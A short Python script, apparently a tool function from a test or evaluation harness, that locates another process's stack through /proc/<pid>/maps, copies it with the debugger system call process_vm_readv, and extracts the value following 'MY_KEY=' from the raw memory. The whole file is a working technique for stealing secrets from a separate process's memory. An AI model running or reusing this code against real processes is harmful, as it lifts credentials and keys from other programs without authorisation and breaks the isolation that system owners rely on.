"""Copy another process's memory by the system call that debuggers use."""

import ctypes


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def tool(world):
    libc = ctypes.CDLL(None, use_errno=True)
    pid = world["sentinel"]
    lines = open(f"/proc/{pid}/maps").read().splitlines()
    start, end = (int(part, 16) for part in next(x for x in lines if "[stack]" in x).split()[0].split("-"))
    buffer = ctypes.create_string_buffer(end - start)
    here, there = Vector(ctypes.addressof(buffer), end - start), Vector(start, end - start)
    libc.process_vm_readv.argtypes = [
        ctypes.c_int,
        ctypes.c_void_p,
        ctypes.c_ulong,
        ctypes.c_void_p,
        ctypes.c_ulong,
        ctypes.c_ulong,
    ]
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) <= 0:
        return None
    at = buffer.raw.index(b"MY_KEY=")
    return buffer.raw[at : at + 60].decode("latin-1")
